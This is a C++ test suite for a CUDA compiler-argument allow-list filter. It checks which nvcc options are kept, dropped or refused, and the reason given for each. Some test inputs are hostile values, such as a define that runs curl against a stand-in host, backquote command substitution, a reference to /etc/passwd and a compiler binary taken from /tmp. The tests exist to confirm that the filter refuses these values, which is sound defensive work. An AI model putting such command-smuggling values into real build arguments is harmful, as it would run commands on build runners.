// SPDX-License-Identifier: Apache-2.0
// add_arguments: the allow-list for a project's compiler arguments. Each class of argument it
// leaves out is listed with its reason.
#include "context/flag_filter.hpp"

#include <catch2/catch.hpp>

#include "cuda/include_confinement.hpp"

using namespace kforecast::context;
using Strings = std::vector<std::string>;
using Defines = std::vector<std::pair<std::string, std::string>>;

namespace {

FolderLookup usr_exists() {
  return {[](const std::filesystem::path& folder) -> std::optional<std::filesystem::path> {
    if (folder.native().starts_with("/usr/")) return folder;
    return std::nullopt;
  }};
}

CompileContext filtered(const Strings& arguments) {
  CompileContext context;
  add_arguments(arguments, FolderPlace{"/repo", "/repo/build"}, usr_exists(), context);
  return context;
}

}  // namespace

TEST_CASE("flag filter: a CMake nvcc command keeps its folders, defines, standard and code generation") {
  const auto context = filtered({"-forward-unknown-to-host-compiler", "-DTCNN_MIN_GPU_ARCH=80", "-I/repo/include",
                                 "-isystem", "/usr/local/cuda/include", "-O3", "-DNDEBUG", "-std=c++17",
                                 "--generate-code=arch=compute_86,code=[compute_86,sm_86]", "--extended-lambda",
                                 "--expt-relaxed-constexpr", "-Xcompiler=-fPIC", "-x", "cu", "-c",
                                 "/repo/src/runner.cu", "-o", "CMakeFiles/x.dir/src/runner.cu.o"});
  CHECK(context.include_dirs == Strings{"include", "/usr/local/cuda/include"});
  CHECK(context.defines == Defines{{"TCNN_MIN_GPU_ARCH", "80"}, {"NDEBUG", ""}});
  CHECK(context.standard == "c++17");
  CHECK(context.flags == Strings{"-O3", "--extended-lambda", "--expt-relaxed-constexpr"});
  CHECK(context.refused.empty());
  CHECK(context.dropped ==
        Strings{"-forward-unknown-to-host-compiler (a host compiler option: kforecast compiles device code)",
                "--generate-code=arch=compute_86,code=[compute_86,sm_86] (kforecast picks the architecture)",
                "-Xcompiler=-fPIC (a host compiler option: kforecast compiles device code)",
                "-x cu (kforecast picks the output)", "-c (kforecast picks the output)",
                "-o CMakeFiles/x.dir/src/runner.cu.o (kforecast picks the output)"});
}

TEST_CASE("flag filter: llm.c's Makefile command") {
  const auto context =
      filtered({"-c", "--threads=0", "-t=0", "--use_fast_math", "-std=c++17", "-O3", "-DENABLE_BF16", "train_gpt2.cu"});
  CHECK(context.flags == Strings{"--use_fast_math", "-O3"});
  CHECK(context.defines == Defines{{"ENABLE_BF16", ""}});
  CHECK(context.refused.empty());
  CHECK(context.dropped == Strings{"-c (kforecast picks the output)",
                                   "--threads=0 (kforecast sets its own parallelism)",
                                   "-t=0 (kforecast sets its own parallelism)"});
}

TEST_CASE("flag filter: each spelling of an option with a value is read") {
  const auto context = filtered({"-I", "../src", "--include-path=/repo/lib", "--include-path", "/repo/x", "-D", "A=1",
                                 "--define-macro=B", "-UC", "-std", "c++14", "-maxrregcount", "64", "--fmad=false",
                                 "-ftz=true", "-rdc=true", "-lineinfo"});
  CHECK(context.include_dirs == Strings{"src", "lib", "x"});
  CHECK(context.defines == Defines{{"A", "1"}, {"B", ""}});
  CHECK(context.undefines == Strings{"C"});
  CHECK(context.standard == "c++14");
  CHECK(context.flags == Strings{"-maxrregcount=64", "--fmad=false", "-ftz=true", "-rdc=true", "-lineinfo"});
  CHECK(context.refused.empty());
  CHECK(context.dropped.empty());
}

TEST_CASE("flag filter: a later define of a name replaces the earlier one, and a later standard wins") {
  const auto context = filtered({"-DA=1", "-DB", "-DA=2", "-std=c++14", "-std=c++17"});
  CHECK(context.defines == Defines{{"A", "2"}, {"B", ""}});
  CHECK(context.standard == "c++17");
}

TEST_CASE("flag filter: arguments that run a program, read a file or link are refused with the reason") {
  const auto context =
      filtered({"-ccbin", "/tmp/evil", "--compiler-bindir=/tmp/evil", "--options-file", "x.rsp", "-optf=y.rsp",
                "@args.rsp", "-include", "/etc/passwd", "--pre-include=k.h", "-Xlinker", "-rpath", "-lcublas",
                "-L/usr/lib", "--library-path=/tmp", "-run", "-fplugin=/tmp/p.so"});
  CHECK(context.flags.empty());
  CHECK(context.include_dirs.empty());
  CHECK(context.dropped.empty());
  CHECK(context.refused == Strings{"-ccbin /tmp/evil (runs a program)", "--compiler-bindir=/tmp/evil (runs a program)",
                                   "--options-file x.rsp (reads a file)", "-optf=y.rsp (reads a file)",
                                   "@args.rsp (reads a response file)", "-include /etc/passwd (reads a file)",
                                   "--pre-include=k.h (reads a file)", "-Xlinker -rpath (passes options to the linker)",
                                   "-lcublas (links a library)", "-L/usr/lib (reads libraries from a folder)",
                                   "--library-path=/tmp (reads libraries from a folder)", "-run (runs a program)",
                                   "-fplugin=/tmp/p.so (not on kforecast's allow-list)"});
}

TEST_CASE("flag filter: architecture, mode and output arguments are dropped, with the reason") {
  const auto context = filtered({"-arch=sm_86", "-gencode", "arch=compute_80,code=sm_80", "-code=sm_90", "-cubin",
                                 "-MD", "-MF", "/tmp/deps.d", "--dependency-output=/etc/x", "-odir", "out"});
  CHECK(context.flags.empty());
  CHECK(context.refused.empty());
  CHECK(context.dropped ==
        Strings{"-arch=sm_86 (kforecast picks the architecture)",
                "-gencode arch=compute_80,code=sm_80 (kforecast picks the architecture)",
                "-code=sm_90 (kforecast picks the architecture)", "-cubin (kforecast picks the output)",
                "-MD (kforecast picks the output)", "-MF /tmp/deps.d (kforecast picks the output)",
                "--dependency-output=/etc/x (kforecast picks the output)", "-odir out (kforecast picks the output)"});
}

TEST_CASE("flag filter: include folders outside the repository are refused, system ones kept") {
  const auto context = filtered(
      {"-I/etc", "-I/proc/self/cwd", "-I", "/home/runner", "-I/repo/.git", "-I/usr/include/eigen3", "-isystem/opt/x"});
  CHECK(context.include_dirs == Strings{"/usr/include/eigen3"});
  REQUIRE(context.refused.size() == 5);
  CHECK(context.refused[0] == "-I/etc (outside the repository, and not a system folder under /usr or /opt)");
  CHECK(context.refused[3] == "-I/repo/.git (inside .git)");
  CHECK(context.refused[4] == "-isystem/opt/x (not an existing folder)");
}

TEST_CASE("flag filter: values of the wrong shape are refused, not passed") {
  const auto context = filtered({"-O9", "-maxrregcount=lots", "--fmad=maybe", "-std=c++17 -ccbin x", "-std=gnu++17",
                                 "-D1X", "-DA B=1", "-UA-B", "--diag-suppress=177,550", "-Xptxas", "-v,-O3",
                                 "-Xptxas=--load-plugin=x", "-W", "-Wno-deprecated-gpu-targets", "-D"});
  CHECK(context.flags == Strings{"--diag-suppress=177,550", "-Xptxas=-v,-O3"});
  CHECK(context.standard.empty());
  CHECK(context.defines.empty());
  CHECK(context.refused ==
        Strings{"-O9 (an unexpected value)", "-maxrregcount=lots (an unexpected value)",
                "--fmad=maybe (an unexpected value)", "-std=c++17 -ccbin x (not a C++ standard nvcc knows)",
                "-std=gnu++17 (not a C++ standard nvcc knows)", "-D1X (not NAME or NAME=VALUE)",
                "-DA B=1 (not NAME or NAME=VALUE)", "-UA-B (not a macro name)",
                "-Xptxas=--load-plugin=x (a ptxas option not on kforecast's allow-list)", "-D (its value is missing)"});
  CHECK(context.dropped == Strings{"-W (a warning option kforecast does not pass)",
                                   "-Wno-deprecated-gpu-targets (a warning option kforecast does not pass)"});
}

TEST_CASE("flag filter: names that begin like a one-letter option are themselves") {
  const auto context = filtered({"-default-device", "-use_fast_math", "-lineinfo", "-isystem", "/repo/i"});
  CHECK(context.flags == Strings{"-default-device", "-use_fast_math", "-lineinfo"});
  CHECK(context.include_dirs == Strings{"i"});
  CHECK(context.defines.empty());
  CHECK(context.refused.empty());
}

TEST_CASE("flag filter: input files are skipped without a note") {
  const auto context = filtered({"k.cu", "other.o", "-"});
  CHECK(context.refused.empty());
  CHECK(context.flags.empty());
}

TEST_CASE("flag filter: a define's name may carry a macro parameter list") {
  CHECK(parse_define("MAX(a,b)=((a)>(b)?(a):(b))") ==
        std::pair<std::string, std::string>{"MAX(a,b)", "((a)>(b)?(a):(b))"});
  CHECK(parse_define("A=") == std::pair<std::string, std::string>{"A", ""});
  CHECK_FALSE(parse_define("MAX(a,b"));
  CHECK_FALSE(parse_define(""));
  CHECK_FALSE(parse_define("=1"));
}

TEST_CASE("flag filter: what NVRTC's confinement allows, the nvcc allow-list allows too") {
  // One list of what is safe: the NVRTC side's options (cuda::allowed_compile_option) all pass here.
  const Strings nvrtc_side{"-std=c++17",
                           "-DA=1",
                           "-UB",
                           "--use_fast_math",
                           "-use_fast_math",
                           "-lineinfo",
                           "-default-device",
                           "-rdc=true",
                           "--ftz=true",
                           "--prec-div=false",
                           "--prec-sqrt=true",
                           "--fmad=false",
                           "-maxrregcount=32",
                           "--relocatable-device-code=false",
                           "--extra-device-vectorization"};
  for (const auto& option : nvrtc_side) {
    INFO(option);
    REQUIRE(kforecast::cuda::allowed_compile_option(option));
    const auto context = filtered({option});
    CHECK(context.refused.empty());
    CHECK(context.dropped.empty());
  }
}

// nvcc runs its steps through `sh -c` with each -D in double quotes, escaping only `"`: a `$`, a
// backquote or a backslash in a define would run a command on the runner.
TEST_CASE("flag filter: a define or a flag holding text a shell acts on is refused, naming it") {
  const auto context =
      filtered({"-DX=1$(curl -s http://HOST/x)", "-DY=`id`", "-DZ=a\\\"b", "-DW=line\nnext", "-DX($(touch m))=1",
                "--define-macro", "V=$(id)", "-I/usr/$(id)", "-I/usr/a`b`", "-Xptxas=-v$(id)", "-DKEEP=1"});
  CHECK(context.defines == Defines{{"KEEP", "1"}});
  CHECK(context.include_dirs.empty());
  CHECK(context.flags.empty());
  REQUIRE(context.refused.size() == 9);
  CHECK(context.refused[0] ==
        "-DX=1$(curl -s http://HOST/x) (it holds '$', which the shell nvcc runs its steps in would act on)");
  CHECK(context.refused[1] == "-DY=`id` (it holds a backquote, which the shell nvcc runs its steps in would act on)");
  CHECK(context.refused[2].ends_with("(it holds a backslash, which the shell nvcc runs its steps in would act on)"));
  CHECK(context.refused[3].ends_with("(it holds a newline, which the shell nvcc runs its steps in would act on)"));
  CHECK(context.refused[4].starts_with("-DX($(touch m))=1 (it holds '$'"));
  CHECK(context.refused[5].starts_with("--define-macro V=$(id) (it holds '$'"));
  CHECK(context.refused[6].starts_with("-I/usr/$(id) (it holds '$'"));
  CHECK(context.refused[7].starts_with("-I/usr/a`b` (it holds a backquote"));
  CHECK(context.refused[8].starts_with("-Xptxas=-v$(id) (it holds '$'"));
}

TEST_CASE("flag filter: a function-like define's parameters must be names") {
  const auto context = filtered({"-DF(a,b)=a+b", "-DG(a b)=1", "-DH(x)y=1"});
  CHECK(context.defines == Defines{{"F(a,b)", "a+b"}});
  REQUIRE(context.refused.size() == 2);
  CHECK(context.refused[0] == "-DG(a b)=1 ('G(a b)' is not a macro name)");
}

TEST_CASE("flag filter: string-valued defines with quotes, braces, slashes and spaces keep compiling") {
  const auto context = filtered({"-DNAME=\"{\\\"\"", "-DCONFIG=\"{a: 1, b: [2]}\"", "-DDIR=\"/opt/my dir/data\"",
                                 "-DVERSION=\"1.2.3\"", "-DEMPTY=\"\""});
  CHECK(context.defines == Defines{{"CONFIG", "\"{a: 1, b: [2]}\""},
                                   {"DIR", "\"/opt/my dir/data\""},
                                   {"VERSION", "\"1.2.3\""},
                                   {"EMPTY", "\"\""}});
  REQUIRE(context.refused.size() == 1);  // the one with a backslash
  CHECK(context.refused[0].starts_with("-DNAME="));
}

TEST_CASE("flag filter: -dc compiles relocatable device code, as -rdc=true, once") {
  const auto context = filtered({"-dc", "src/k.cu", "-o", "k.o", "--device-c", "-rdc=true"});
  CHECK(context.flags == Strings{"-rdc=true"});
  CHECK(context.refused.empty());
}
